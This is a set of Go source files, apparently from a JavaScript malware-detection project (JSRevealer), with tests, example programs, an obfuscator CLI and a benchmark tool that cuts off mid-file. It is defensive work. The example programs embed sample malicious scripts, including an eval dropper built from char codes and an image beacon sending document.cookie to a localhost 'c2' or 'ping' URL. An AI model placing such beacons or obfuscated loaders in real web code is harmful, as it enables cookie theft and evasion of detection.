package jsrevealer_test

import (
	"path/filepath"
	"testing"

	"jsrevealer"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obfuscate"
)

// trainFacade trains a small model through the public facade.
func trainFacade(t *testing.T) (*jsrevealer.Detector, []corpus.Sample) {
	t.Helper()
	samples := corpus.Generate(corpus.Config{Benign: 60, Malicious: 60, Seed: 31})
	var train []jsrevealer.Sample
	var test []corpus.Sample
	for i, s := range samples {
		if i%4 == 3 {
			test = append(test, s)
		} else {
			train = append(train, jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious})
		}
	}
	opts := jsrevealer.DefaultOptions()
	opts.Embedding.Dim = 24
	opts.Embedding.Epochs = 5
	opts.Path.MaxPaths = 400
	opts.MaxPoolPerClass = 800
	det, err := jsrevealer.Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	return det, test
}

// TestFacadeEndToEnd is the integration test across the whole public API:
// train, detect, survive obfuscation on a clear-cut malicious sample,
// persist, reload.
func TestFacadeEndToEnd(t *testing.T) {
	det, test := trainFacade(t)

	correct := 0
	for _, s := range test {
		pred, err := det.Detect(s.Source)
		if err != nil {
			t.Fatal(err)
		}
		if pred == s.Malicious {
			correct++
		}
	}
	// The deliberately tiny training configuration trades accuracy for test
	// speed; the experiments package covers detection quality at scale.
	if acc := float64(correct) / float64(len(test)); acc < 0.7 {
		t.Errorf("facade accuracy = %.2f", acc)
	}

	// Obfuscated variant of a malicious test sample keeps its verdict in
	// the majority of cases; spot-check one known-detected sample.
	var maliciousSrc string
	for _, s := range test {
		if s.Malicious {
			if pred, _ := det.Detect(s.Source); pred {
				maliciousSrc = s.Source
				break
			}
		}
	}
	if maliciousSrc != "" {
		ob := &obfuscate.Jshaman{Seed: 77}
		obf, err := ob.Obfuscate(maliciousSrc)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := det.Detect(obf); err != nil {
			t.Fatalf("obfuscated detect: %v", err)
		}
	}

	// Persistence through the facade.
	path := filepath.Join(t.TempDir(), "model.json")
	if err := det.Save(path); err != nil {
		t.Fatal(err)
	}
	restored, err := jsrevealer.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	p1, _ := det.Detect(test[0].Source)
	p2, _ := restored.Detect(test[0].Source)
	if p1 != p2 {
		t.Error("restored model disagrees")
	}

	// Interpretability through the facade.
	feats, err := det.Explain(3)
	if err != nil {
		t.Fatal(err)
	}
	if len(feats) != 3 {
		t.Errorf("Explain(3) = %d features", len(feats))
	}
}

func TestRegularASTOptionsExposed(t *testing.T) {
	opts := jsrevealer.RegularASTOptions()
	if opts.Path.UseDataFlow {
		t.Error("regular AST options should disable data flow")
	}
}
