package jsrevealer_test

import (
	"sort"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obfuscate"
	"jsrevealer/internal/pathctx"
)

// pathStrings extracts the sorted multiset of path-context strings.
func pathStrings(t *testing.T, src string) []string {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	opts := pathctx.DefaultOptions()
	opts.MaxPaths = 0 // exhaustive, so multisets are comparable
	paths := pathctx.Extract(prog, opts)
	out := make([]string, len(paths))
	for i, p := range paths {
		out[i] = p.String()
	}
	sort.Strings(out)
	return out
}

// structureHashes extracts the sorted multiset of structure-component
// hashes.
func structureHashes(t *testing.T, src string) []uint64 {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	opts := pathctx.DefaultOptions()
	opts.MaxPaths = 0
	paths := pathctx.Extract(prog, opts)
	out := make([]uint64, len(paths))
	for i, p := range paths {
		_, s, _ := p.ComponentHashes()
		out[i] = s
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

func integrationSamples(t *testing.T, n int) []corpus.Sample {
	t.Helper()
	return corpus.Generate(corpus.Config{Benign: n, Malicious: n, Seed: 77, Pristine: true})
}

// TestMinificationPreservesPathContexts checks the core claim behind the
// corpus's minify transform: minification changes only whitespace, so the
// AST — and therefore every extracted path context — is identical.
func TestMinificationPreservesPathContexts(t *testing.T) {
	min := &obfuscate.Minifier{}
	for _, s := range integrationSamples(t, 8) {
		minified, err := min.Obfuscate(s.Source)
		if err != nil {
			t.Fatalf("%s: %v", s.Family, err)
		}
		before := pathStrings(t, s.Source)
		after := pathStrings(t, minified)
		if len(before) != len(after) {
			t.Fatalf("%s: path count changed %d -> %d", s.Family, len(before), len(after))
		}
		for i := range before {
			if before[i] != after[i] {
				t.Fatalf("%s: path %d changed:\n  %s\n  %s", s.Family, i, before[i], after[i])
			}
		}
	}
}

// TestRenamingPreservesPathStructures checks the mechanism behind
// JSRevealer's rename-robustness: pure variable renaming (Jshaman) keeps
// the multiset of path structure hashes identical — only the value
// components move, and those fall back to the UNK embedding.
func TestRenamingPreservesPathStructures(t *testing.T) {
	jshaman := &obfuscate.Jshaman{Seed: 5}
	for _, s := range integrationSamples(t, 8) {
		renamed, err := jshaman.Obfuscate(s.Source)
		if err != nil {
			t.Fatalf("%s: %v", s.Family, err)
		}
		// Compare against the pretty-printed original: renaming output goes
		// through the printer, so both sides must use printer layout (which
		// the parse→extract pipeline makes irrelevant anyway).
		before := structureHashes(t, s.Source)
		after := structureHashes(t, renamed)
		if len(before) != len(after) {
			t.Fatalf("%s: path count changed %d -> %d under renaming",
				s.Family, len(before), len(after))
		}
		for i := range before {
			if before[i] != after[i] {
				t.Fatalf("%s: structure multiset changed under pure renaming", s.Family)
			}
		}
	}
}

// TestObfuscationGrowsOrKeepsSize sanity-checks that every obfuscator's
// output is parseable for every corpus family and that transformations are
// not no-ops.
func TestObfuscationChangesSource(t *testing.T) {
	for _, s := range integrationSamples(t, 6) {
		for name, ob := range obfuscate.Registry(3) {
			out, err := ob.Obfuscate(s.Source)
			if err != nil {
				t.Fatalf("%s/%s: %v", s.Family, name, err)
			}
			if _, err := parser.Parse(out); err != nil {
				t.Fatalf("%s/%s output unparseable: %v", s.Family, name, err)
			}
			if out == s.Source {
				t.Errorf("%s/%s: output identical to input", s.Family, name)
			}
		}
	}
}

// TestObfuscationStacking applies two obfuscators in sequence — the
// polymorphic-mutation scenario of the paper's background section — and
// checks the stack still parses.
func TestObfuscationStacking(t *testing.T) {
	first := &obfuscate.Jshaman{Seed: 1}
	second := &obfuscate.JavaScriptObfuscator{Seed: 2}
	for _, s := range integrationSamples(t, 4) {
		mid, err := first.Obfuscate(s.Source)
		if err != nil {
			t.Fatal(err)
		}
		out, err := second.Obfuscate(mid)
		if err != nil {
			t.Fatalf("%s: stacked obfuscation failed: %v", s.Family, err)
		}
		if _, err := parser.Parse(out); err != nil {
			t.Fatalf("%s: stacked output unparseable: %v", s.Family, err)
		}
	}
}
