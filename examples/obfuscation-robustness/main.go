// Obfuscation-robustness: train JSRevealer, obfuscate a held-out test set
// with each of the four evaluation obfuscators, and print the metric
// degradation per obfuscator — a miniature of the paper's Table IV.
package main

import (
	"fmt"
	"log"

	"jsrevealer"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/ml/metrics"
	"jsrevealer/internal/obfuscate"
)

func main() {
	samples := corpus.Generate(corpus.Config{Benign: 250, Malicious: 250, Seed: 3})
	var train []jsrevealer.Sample
	var test []corpus.Sample
	for i, s := range samples {
		if i%5 == 4 {
			test = append(test, s)
		} else {
			train = append(train, jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious})
		}
	}

	det, err := jsrevealer.Train(train, nil, jsrevealer.DefaultOptions())
	if err != nil {
		log.Fatal(err)
	}

	evaluate := func(ob obfuscate.Obfuscator) metrics.Report {
		var c metrics.Confusion
		for _, s := range test {
			src := s.Source
			if ob != nil {
				if out, err := ob.Obfuscate(src); err == nil {
					src = out
				}
			}
			verdict, err := det.Detect(src)
			if err != nil {
				verdict = false
			}
			c.Add(s.Malicious, verdict)
		}
		return metrics.ReportOf(c)
	}

	fmt.Printf("%-24s %6s %6s %6s %6s\n", "condition", "Acc", "F1", "FPR", "FNR")
	base := evaluate(nil)
	fmt.Printf("%-24s %6.1f %6.1f %6.1f %6.1f\n", "unobfuscated",
		base.Accuracy, base.F1, base.FPR, base.FNR)
	registry := obfuscate.Registry(17)
	for _, name := range obfuscate.PaperOrder() {
		r := evaluate(registry[name])
		fmt.Printf("%-24s %6.1f %6.1f %6.1f %6.1f\n", name, r.Accuracy, r.F1, r.FPR, r.FNR)
	}
}
