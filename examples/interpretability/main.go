// Interpretability: train JSRevealer and print the five most important
// cluster features with their central paths — the paper's Table VII view,
// which shows benign features centering on functionality implementation
// and malicious features on data manipulation.
package main

import (
	"fmt"
	"log"

	"jsrevealer"
	"jsrevealer/internal/corpus"
)

func main() {
	samples := corpus.Generate(corpus.Config{Benign: 250, Malicious: 250, Seed: 11})
	train := make([]jsrevealer.Sample, len(samples))
	for i, s := range samples {
		train[i] = jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	det, err := jsrevealer.Train(train, nil, jsrevealer.DefaultOptions())
	if err != nil {
		log.Fatal(err)
	}

	feats, err := det.Explain(5)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("five most important features (random-forest Gini importance):")
	for rank, f := range feats {
		origin := "benign"
		if f.FromMalicious {
			origin = "malicious"
		}
		fmt.Printf("%d. importance=%.3f  origin=%s\n   central path: %s\n",
			rank+1, f.Importance, origin, f.CentralPath)
	}

	// The split the paper reports: benign features reflect functionality
	// (function/block structure), malicious ones reflect data manipulation
	// (binary expressions, assignments over literals).
	var benignN, maliciousN int
	for _, f := range feats {
		if f.FromMalicious {
			maliciousN++
		} else {
			benignN++
		}
	}
	fmt.Printf("\ntop-5 split: %d benign-origin, %d malicious-origin features\n",
		benignN, maliciousN)
}
