// Quickstart: train a small JSRevealer model on the synthetic corpus and
// classify a benign script, a malicious script, and an obfuscated variant
// of the malicious script.
package main

import (
	"fmt"
	"log"

	"jsrevealer"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obfuscate"
)

func main() {
	// A small corpus keeps the example fast; real use wants more data.
	samples := corpus.Generate(corpus.Config{Benign: 150, Malicious: 150, Seed: 7})
	train := make([]jsrevealer.Sample, len(samples))
	for i, s := range samples {
		train[i] = jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious}
	}

	opts := jsrevealer.DefaultOptions()
	det, err := jsrevealer.Train(train, nil, opts)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("trained: %d cluster features, outlier detector %s\n",
		len(det.Features()), det.OutlierDetectorName)

	benign := `
function formatPrice(value, currency) {
  var amount = Number(value).toFixed(2);
  return currency + " " + amount;
}
var label = formatPrice(12.5, "USD");
document.getElementById("price").textContent = label;
`
	malicious := `
var cs = [121, 139, 125, 132, 76, 74, 121, 132, 129, 121, 138, 140, 76, 77];
var payload = "";
for (var i = 0; i < cs.length; i++) {
  payload += String.fromCharCode(cs[i] - 20);
}
eval(payload);
var img = new Image();
img.src = "http://127.0.0.1/c2?d=" + escape(payload);
`

	classify := func(name, src string) {
		verdict, err := det.Detect(src)
		if err != nil {
			log.Fatalf("%s: %v", name, err)
		}
		label := "benign"
		if verdict {
			label = "MALICIOUS"
		}
		fmt.Printf("%-28s -> %s\n", name, label)
	}
	classify("benign price widget", benign)
	classify("malicious eval dropper", malicious)

	// Obfuscate the dropper and classify again: the verdict should hold.
	ob := &obfuscate.JavaScriptObfuscator{Seed: 99}
	obfuscated, err := ob.Obfuscate(malicious)
	if err != nil {
		log.Fatal(err)
	}
	classify("dropper (obfuscated)", obfuscated)
}
