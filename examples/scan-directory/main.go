// Scan-directory: train (or load) a persisted model, then scan every .js
// file under a directory and report verdicts — the bulk-detection workflow
// the paper's scalability analysis (Table VIII) targets.
//
// Usage:
//
//	go run ./examples/scan-directory [-model path] [-dir path]
//
// Without -dir, the example writes a small demo directory with a benign
// and a malicious file and scans it.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strings"
	"time"

	"jsrevealer"
	"jsrevealer/internal/corpus"
)

func main() {
	model := flag.String("model", "", "persisted model path (trained on the fly when empty)")
	dir := flag.String("dir", "", "directory to scan (demo directory when empty)")
	flag.Parse()
	if err := run(*model, *dir); err != nil {
		log.Fatal(err)
	}
}

func run(modelPath, dir string) error {
	det, err := loadOrTrain(modelPath)
	if err != nil {
		return err
	}

	if dir == "" {
		demo, err := writeDemoDir()
		if err != nil {
			return err
		}
		defer os.RemoveAll(demo)
		dir = demo
	}

	var scanned, flagged int
	start := time.Now()
	err = filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() || !strings.HasSuffix(path, ".js") {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		scanned++
		verdict, err := det.Detect(string(data))
		if err != nil {
			fmt.Printf("%-40s error: %v\n", path, err)
			return nil
		}
		if verdict {
			flagged++
			fmt.Printf("%-40s MALICIOUS\n", path)
		} else {
			fmt.Printf("%-40s benign\n", path)
		}
		return nil
	})
	if err != nil {
		return err
	}
	elapsed := time.Since(start)
	perFile := time.Duration(0)
	if scanned > 0 {
		perFile = elapsed / time.Duration(scanned)
	}
	fmt.Printf("\nscanned %d files in %s (%.1f ms/file), %d flagged\n",
		scanned, elapsed.Round(time.Millisecond),
		float64(perFile.Microseconds())/1000, flagged)
	return nil
}

func loadOrTrain(path string) (*jsrevealer.Detector, error) {
	if path != "" {
		if det, err := jsrevealer.Load(path); err == nil {
			fmt.Printf("loaded model from %s\n", path)
			return det, nil
		}
	}
	fmt.Println("training a fresh model on the synthetic corpus...")
	samples := corpus.Generate(corpus.Config{Benign: 200, Malicious: 200, Seed: 23})
	train := make([]jsrevealer.Sample, len(samples))
	for i, s := range samples {
		train[i] = jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	det, err := jsrevealer.Train(train, nil, jsrevealer.DefaultOptions())
	if err != nil {
		return nil, err
	}
	if path != "" {
		if err := det.Save(path); err != nil {
			return nil, err
		}
		fmt.Printf("model saved to %s\n", path)
	}
	return det, nil
}

func writeDemoDir() (string, error) {
	dir, err := os.MkdirTemp("", "jsrevealer-scan")
	if err != nil {
		return "", err
	}
	files := map[string]string{
		// Realistically sized: very short scripts carry too few path
		// contexts for a stable verdict.
		"menu.js": `
var menuState = { open: false, animating: false, duration: 250 };
function toggleMenu(id) {
  var el = document.getElementById(id);
  if (menuState.animating) { return false; }
  menuState.animating = true;
  if (el.style.display === "none") {
    el.style.display = "block";
    menuState.open = true;
  } else {
    el.style.display = "none";
    menuState.open = false;
  }
  setTimeout(function() { menuState.animating = false; }, menuState.duration);
  return menuState.open;
}
function highlightCurrent(links) {
  for (var i = 0; i < links.length; i++) {
    if (links[i].href === location.href) {
      links[i].className = "active";
    } else {
      links[i].className = "";
    }
  }
}
function setupMenu() {
  var burger = document.getElementById("hamburger");
  if (burger) {
    burger.onclick = function() { toggleMenu("nav"); };
  }
  highlightCurrent(document.querySelectorAll("#nav a"));
}
window.addEventListener("load", setupMenu);
`,
		"loader.js": `
var fragments = [101, 118, 97, 108];
var cmd = "";
var i = 0;
while (i < fragments.length) {
  cmd += String.fromCharCode(fragments[i]);
  i++;
}
var runner = new Function(cmd + "('var x = 1;')");
runner();
var beacon = new Image();
beacon.src = "http://127.0.0.1/ping?x=" + escape(document.cookie);
`,
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			return "", err
		}
	}
	return dir, nil
}
