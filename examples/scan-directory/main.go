// Scan-directory: train (or load) a persisted model, then scan every .js
// file under a directory through the hardened scan engine and report
// verdicts — the bulk-detection workflow the paper's scalability analysis
// (Table VIII) targets, hardened for untrusted input: a concurrent worker
// pool, per-file deadlines, size/token/recursion guards, panic isolation,
// and graceful degradation to a lexical heuristic.
//
// Usage:
//
//	go run ./examples/scan-directory [-model path] [-dir path] [-workers N] [-timeout D] [-stats-json out.json]
//
// Without -dir, the example writes a small demo directory with a benign
// file, a malicious file, and a pathological file (nesting beyond the
// parser's recursion budget) and scans it.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strings"
	"time"

	"jsrevealer"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obs"
)

func main() {
	model := flag.String("model", "", "persisted model path (trained on the fly when empty)")
	dir := flag.String("dir", "", "directory to scan (demo directory when empty)")
	workers := flag.Int("workers", 0, "concurrent scan workers (0 = GOMAXPROCS)")
	timeout := flag.Duration("timeout", 10*time.Second, "per-file classification deadline")
	statsJSON := flag.String("stats-json", "", "write scan stats and the metrics snapshot as JSON to this path")
	flag.Parse()
	if err := run(*model, *dir, *workers, *timeout, *statsJSON); err != nil {
		log.Fatal(err)
	}
}

func run(modelPath, dir string, workers int, timeout time.Duration, statsJSON string) error {
	det, err := loadOrTrain(modelPath)
	if err != nil {
		return err
	}

	if dir == "" {
		demo, err := writeDemoDir()
		if err != nil {
			return err
		}
		defer os.RemoveAll(demo)
		dir = demo
	}

	scanner := jsrevealer.NewScanner(det, jsrevealer.ScanConfig{
		Workers: workers,
		Timeout: timeout,
	})
	// Metrics land in a private registry attached to the scan context; the
	// -stats-json dump snapshots it alongside the aggregate statistics.
	reg := obs.NewRegistry()
	results, stats, err := scanner.ScanDir(obs.WithRegistry(context.Background(), reg), dir)
	if err != nil {
		return err
	}

	// Per-file verdicts on stdout; every degraded/failed file is aggregated
	// with its structured reason rather than aborting the walk.
	var problems []jsrevealer.ScanResult
	for _, r := range results {
		switch r.Verdict {
		case jsrevealer.VerdictDegraded:
			label := "benign"
			if r.Malicious {
				label = "MALICIOUS"
			}
			fmt.Printf("%-40s DEGRADED (fallback verdict: %s)\n", r.Path, label)
			problems = append(problems, r)
		case jsrevealer.VerdictFailed:
			fmt.Printf("%-40s FAILED\n", r.Path)
			problems = append(problems, r)
		case jsrevealer.VerdictMalicious:
			fmt.Printf("%-40s MALICIOUS\n", r.Path)
		default:
			fmt.Printf("%-40s benign\n", r.Path)
		}
	}

	fmt.Printf("\nscanned %d files in %s: %d flagged, %d degraded, %d failed; latency p50 %s p99 %s\n",
		stats.Scanned, stats.Wall.Round(time.Millisecond),
		stats.Flagged, stats.Degraded, stats.Failed,
		stats.P50.Round(time.Millisecond), stats.P99.Round(time.Millisecond))
	fmt.Printf("errors by reason: parse %d, timeout %d, too_large %d, depth_limit %d, internal %d\n",
		stats.ParseErrors, stats.Timeouts, stats.TooLarge, stats.DepthLimit, stats.Internal)
	if len(problems) > 0 {
		fmt.Println("\nfiles the full pipeline could not classify:")
		for _, r := range problems {
			fmt.Printf("  %s: %v\n", r.Path, r.Err)
		}
	}
	if statsJSON != "" {
		payload := struct {
			Stats   jsrevealer.ScanStats `json:"stats"`
			Metrics obs.Snapshot         `json:"metrics"`
		}{stats, reg.Snapshot()}
		data, err := json.MarshalIndent(payload, "", "  ")
		if err != nil {
			return err
		}
		if err := os.WriteFile(statsJSON, append(data, '\n'), 0o644); err != nil {
			return err
		}
		fmt.Printf("stats written to %s\n", statsJSON)
	}
	return nil
}

func loadOrTrain(path string) (*jsrevealer.Detector, error) {
	if path != "" {
		if det, err := jsrevealer.Load(path); err == nil {
			fmt.Printf("loaded model from %s\n", path)
			return det, nil
		}
	}
	fmt.Println("training a fresh model on the synthetic corpus...")
	samples := corpus.Generate(corpus.Config{Benign: 200, Malicious: 200, Seed: 23})
	train := make([]jsrevealer.Sample, len(samples))
	for i, s := range samples {
		train[i] = jsrevealer.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	det, err := jsrevealer.Train(train, nil, jsrevealer.DefaultOptions())
	if err != nil {
		return nil, err
	}
	if path != "" {
		if err := det.Save(path); err != nil {
			return nil, err
		}
		fmt.Printf("model saved to %s\n", path)
	}
	return det, nil
}

func writeDemoDir() (string, error) {
	dir, err := os.MkdirTemp("", "jsrevealer-scan")
	if err != nil {
		return "", err
	}
	files := map[string]string{
		// Realistically sized: very short scripts carry too few path
		// contexts for a stable verdict.
		"menu.js": `
var menuState = { open: false, animating: false, duration: 250 };
function toggleMenu(id) {
  var el = document.getElementById(id);
  if (menuState.animating) { return false; }
  menuState.animating = true;
  if (el.style.display === "none") {
    el.style.display = "block";
    menuState.open = true;
  } else {
    el.style.display = "none";
    menuState.open = false;
  }
  setTimeout(function() { menuState.animating = false; }, menuState.duration);
  return menuState.open;
}
function highlightCurrent(links) {
  for (var i = 0; i < links.length; i++) {
    if (links[i].href === location.href) {
      links[i].className = "active";
    } else {
      links[i].className = "";
    }
  }
}
function setupMenu() {
  var burger = document.getElementById("hamburger");
  if (burger) {
    burger.onclick = function() { toggleMenu("nav"); };
  }
  highlightCurrent(document.querySelectorAll("#nav a"));
}
window.addEventListener("load", setupMenu);
`,
		"loader.js": `
var fragments = [101, 118, 97, 108];
var cmd = "";
var i = 0;
while (i < fragments.length) {
  cmd += String.fromCharCode(fragments[i]);
  i++;
}
var runner = new Function(cmd + "('var x = 1;')");
runner();
var beacon = new Image();
beacon.src = "http://127.0.0.1/ping?x=" + escape(document.cookie);
`,
		// Nesting beyond the parser's recursion budget: exercises the
		// engine's graceful degradation instead of crashing the scan.
		"hostile.js": "var bomb = " + strings.Repeat("(", 30000) + "1" + strings.Repeat(")", 30000) + ";",
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			return "", err
		}
	}
	return dir, nil
}
