// Family-triage: the extension the paper lists as future work. After
// binary detection, a one-vs-rest family classifier built on the same
// cluster features assigns flagged scripts to a malware family, giving an
// analyst a triage label instead of a bare verdict.
package main

import (
	"fmt"
	"log"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
)

func main() {
	samples := corpus.Generate(corpus.Config{Benign: 150, Malicious: 150, Seed: 29})
	var train []core.Sample
	var famTrain []core.FamilySample
	var holdout []corpus.Sample
	for i, s := range samples {
		train = append(train, core.Sample{Source: s.Source, Malicious: s.Malicious})
		if !s.Malicious {
			continue
		}
		if i%5 == 4 {
			holdout = append(holdout, s)
		} else {
			famTrain = append(famTrain, core.FamilySample{Source: s.Source, Family: s.Family})
		}
	}

	det, err := core.Train(train, nil, core.DefaultOptions())
	if err != nil {
		log.Fatal(err)
	}
	fc, err := core.TrainFamilyClassifier(det, famTrain, 29)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("family classifier over %v\n\n", fc.Families())

	correct := 0
	for _, s := range holdout {
		verdict, err := det.Detect(s.Source)
		if err != nil {
			continue
		}
		if !verdict {
			fmt.Printf("missed: %-20s (detector said benign)\n", s.Family)
			continue
		}
		fam, _, err := fc.Classify(s.Source)
		if err != nil {
			continue
		}
		mark := " "
		if fam == s.Family {
			mark = "*"
			correct++
		}
		fmt.Printf("%s flagged -> predicted family %-20s actual %s\n", mark, fam, s.Family)
	}
	fmt.Printf("\n%d/%d flagged samples triaged to the right family\n", correct, len(holdout))
}
