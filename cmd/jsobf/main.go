// Command jsobf obfuscates JavaScript files with any of the four
// evaluation obfuscators (or the minifier).
//
// Usage:
//
//	jsobf -tool JavaScript-Obfuscator [-seed N] [-o out.js] in.js
//	jsobf -list
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"jsrevealer/internal/obfuscate"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "jsobf:", err)
		os.Exit(1)
	}
}

func run() error {
	tool := flag.String("tool", "JavaScript-Obfuscator", "obfuscator to apply")
	seed := flag.Int64("seed", 1, "random seed")
	out := flag.String("o", "", "output path (default: stdout)")
	list := flag.Bool("list", false, "list available obfuscators")
	flag.Parse()

	reg := obfuscate.Registry(*seed)
	if *list {
		names := make([]string, 0, len(reg))
		for n := range reg {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			fmt.Println(n)
		}
		return nil
	}
	ob, ok := reg[*tool]
	if !ok {
		return fmt.Errorf("unknown tool %q (use -list)", *tool)
	}
	if flag.NArg() != 1 {
		return fmt.Errorf("usage: jsobf -tool NAME in.js")
	}
	data, err := os.ReadFile(flag.Arg(0))
	if err != nil {
		return err
	}
	obfuscated, err := ob.Obfuscate(string(data))
	if err != nil {
		return err
	}
	if *out == "" {
		fmt.Print(obfuscated)
		return nil
	}
	return os.WriteFile(*out, []byte(obfuscated), 0o644)
}
