package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestParseLine(t *testing.T) {
	cases := []struct {
		line    string
		ok      bool
		wantErr bool
		want    Benchmark
	}{
		{
			line: "BenchmarkScanSource-8   1405   803276 ns/op   713760 B/op   938 allocs/op",
			ok:   true,
			want: Benchmark{Name: "BenchmarkScanSource", Iterations: 1405,
				NsPerOp: 803276, BytesPerOp: 713760, AllocsPerOp: 938},
		},
		{
			// The MB/s column from b.SetBytes must not shift the fields.
			line: "BenchmarkContentHash-8   682245   1795 ns/op   4683.21 MB/s   0 B/op   0 allocs/op",
			ok:   true,
			want: Benchmark{Name: "BenchmarkContentHash", Iterations: 682245, NsPerOp: 1795},
		},
		// Non-result lines are skipped without error.
		{line: "goos: linux"},
		{line: "--- FAIL: BenchmarkBroken"},
		{line: "Benchmark prose that is not a result line"},
		// Result lines with malformed values must error, not record zeros.
		{line: "BenchmarkX-8 100 oops ns/op", wantErr: true},
		{line: "BenchmarkX-8 100 5 ns/op bad B/op 3 allocs/op", wantErr: true},
		{line: "BenchmarkX-8 100 5 ns/op 10 B/op 3.5 allocs/op", wantErr: true},
	}
	for _, c := range cases {
		got, ok, err := parseLine(c.line)
		if (err != nil) != c.wantErr {
			t.Errorf("parseLine(%q) err = %v, wantErr %v", c.line, err, c.wantErr)
			continue
		}
		if ok != c.ok {
			t.Errorf("parseLine(%q) ok = %v, want %v", c.line, ok, c.ok)
			continue
		}
		if ok && got != c.want {
			t.Errorf("parseLine(%q) = %+v, want %+v", c.line, got, c.want)
		}
	}
}

// writeHistory writes a history file with one single-benchmark run per
// allocs/op value given.
func writeHistory(t *testing.T, allocs ...int64) string {
	t.Helper()
	f := File{}
	for i, a := range allocs {
		f.Runs = append(f.Runs, Run{
			GitSHA:     string(rune('a' + i)),
			Benchmarks: []Benchmark{{Name: "BenchmarkX", Iterations: 1, NsPerOp: 100, AllocsPerOp: a}},
		})
	}
	out, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "bench.json")
	if err := os.WriteFile(path, out, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestCompareBaselineSelection: the gate must honor the recorded baseline
// (set by rebaseline) and the -baseline override, instead of being pinned
// to run 0 forever.
func TestCompareBaselineSelection(t *testing.T) {
	// Run 0: 1000 allocs. Run 1: 10 (intentional perf change). Run 2: 12 —
	// a regression vs run 1, invisible vs run 0.
	path := writeHistory(t, 1000, 10, 12)

	if ok, err := compare(path, 0.10, -1); err != nil || !ok {
		t.Fatalf("against run 0: ok=%v err=%v, want pass", ok, err)
	}
	if ok, err := compare(path, 0.10, 1); err != nil || ok {
		t.Fatalf("against -baseline 1: ok=%v err=%v, want regression", ok, err)
	}

	if err := rebaseline(path, 1); err != nil {
		t.Fatalf("rebaseline: %v", err)
	}
	if ok, err := compare(path, 0.10, -1); err != nil || ok {
		t.Fatalf("after rebaseline: ok=%v err=%v, want regression", ok, err)
	}

	// rebaseline with no index promotes the newest run.
	if err := rebaseline(path, -1); err != nil {
		t.Fatalf("rebaseline newest: %v", err)
	}
	f, err := load(path)
	if err != nil {
		t.Fatal(err)
	}
	if f.Baseline != 2 {
		t.Fatalf("baseline = %d, want 2", f.Baseline)
	}

	if _, err := compare(path, 0.10, 99); err == nil {
		t.Fatal("out-of-range -baseline accepted")
	}
	if err := rebaseline(path, 99); err == nil {
		t.Fatal("out-of-range rebaseline accepted")
	}
}
