// benchcompare records `go test -bench` results into BENCH_scan.json and
// compares runs against the committed baseline, failing when allocations
// regress. It is the enforcement half of the repo's benchmark harness:
// scripts/bench.sh pipes benchmark output through `benchcompare record`,
// and `make bench-compare` runs `benchcompare compare` to print per-
// benchmark deltas and gate on allocs/op.
//
// Usage:
//
//	go test -bench . -benchmem ./... | benchcompare record [-file BENCH_scan.json]
//	benchcompare compare [-file BENCH_scan.json] [-max-alloc-regress 0.10] [-baseline N]
//	benchcompare rebaseline [-file BENCH_scan.json] [-run N]
//
// compare gates the newest run against the recorded baseline — by default
// the oldest run, until `rebaseline` promotes a later one (use it after an
// intentional perf-profile change, so the gate tracks the new steady state
// instead of demanding a hand-edit of the history). `-baseline N` overrides
// the recorded choice for one invocation.
//
// The file holds every recorded run, oldest first, so the performance
// history travels with the repo:
//
//	{"runs": [{"git_sha": "...", "timestamp": "...", "benchmarks": [...]}], "baseline": N}
//
// The pre-harness format (a bare array of benchmark entries) is read as a
// single baseline run and upgraded on the next record.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

// Benchmark is one parsed benchmark result line.
type Benchmark struct {
	Name        string  `json:"name"`
	Iterations  int64   `json:"iterations"`
	NsPerOp     float64 `json:"ns_per_op"`
	BytesPerOp  int64   `json:"bytes_per_op"`
	AllocsPerOp int64   `json:"allocs_per_op"`
}

// Run is one recorded benchmark session.
type Run struct {
	GitSHA     string      `json:"git_sha"`
	Timestamp  string      `json:"timestamp"`
	Benchmarks []Benchmark `json:"benchmarks"`
}

// File is the on-disk history. Baseline is the index into Runs that compare
// gates against; zero (the oldest run) until rebaseline promotes a later one.
type File struct {
	Runs     []Run `json:"runs"`
	Baseline int   `json:"baseline,omitempty"`
}

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	cmd, args := os.Args[1], os.Args[2:]
	switch cmd {
	case "record":
